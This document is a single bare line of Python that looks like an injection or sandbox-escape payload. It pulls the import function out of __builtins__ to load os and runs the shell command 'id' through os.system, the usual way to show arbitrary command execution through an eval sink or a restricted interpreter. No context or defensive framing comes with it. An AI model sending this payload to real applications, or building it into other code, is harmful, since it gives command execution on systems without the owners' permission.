__builtins__.__dict__['__import__']('os').system('id')
